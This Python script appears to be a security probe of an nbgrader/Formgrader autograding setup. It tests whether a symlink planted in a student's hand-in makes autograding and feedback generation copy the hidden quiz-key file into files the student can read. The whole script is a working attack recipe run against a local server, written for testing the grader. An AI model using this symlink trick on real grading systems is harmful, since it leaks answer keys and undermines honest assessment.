"""Break 1's in-server path needs no code of the student's to read what is hidden: a hand-in carrying a link to the
judges (refused by make grade) is autograded from Formgrader, and Formgrader's "generate feedback" then puts the files
beside the student's feedback. Does nbgrader copy the link's target (the quiz keys) into autograded/ and feedback/?"""
from lib import *
import socket, secrets, signal, urllib.request
d = course("a12")
put(d, "aaron", honest()); p = put(d, "mallory", honest()); put(d, "zoe", honest())
os.symlink(f"{CLONE}/autograders/ps1_memory.py", f"{p}/keys.py")
grade(d); scores(d)
print(json.dumps([{k: o[k] for k in ("student", "status", "reason")} for o in json.load(open(f"{d}/grading_report.json"))], indent=0)[:1500])
s = socket.socket(); s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]; s.close()
tok = secrets.token_hex(8)
lab = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "lab", f"--notebook-dir={d}", "--allow-root", "--no-browser",
                        f"--port={port}", f"--IdentityProvider.token={tok}", "--ServerApp.ip=127.0.0.1"],
                       cwd=d, env=dict(os.environ, PYTHONSAFEPATH="1", PYTHONPATH=CLONE), stdout=open("/tmp/attack37-root-a12-lab.log", "w"),
                       stderr=subprocess.STDOUT, start_new_session=True)
try:
    for _ in range(90):
        try: urllib.request.urlopen(f"http://127.0.0.1:{port}/api/status?token={tok}"); break
        except Exception: time.sleep(1)
    for path in (f"submission/{A}/mallory/autograde", f"assignment/{A}/mallory/generate_feedback"):
        req = urllib.request.Request(f"http://127.0.0.1:{port}/formgrader/api/{path}", data=b"{}", method="POST",
                                     headers={"Authorization": f"token {tok}"})
        print(path, "success:", json.loads(urllib.request.urlopen(req, timeout=600).read()).get("success"))
finally:
    os.killpg(lab.pid, signal.SIGTERM)
    try: lab.wait(15)
    except subprocess.TimeoutExpired: os.killpg(lab.pid, signal.SIGKILL); lab.wait()
for where in ("autograded", "feedback"):
    f = f"{d}/{where}/mallory/{A}/keys.py"
    print(where, sorted(os.listdir(os.path.dirname(f))) if os.path.isdir(os.path.dirname(f)) else "absent",
          "keys.py:", ("link" if os.path.islink(f) else "regular file") if os.path.lexists(f) else "absent",
          "holds _QUIZ:", os.path.isfile(f) and "_QUIZ" in open(f).read())
scores(d)
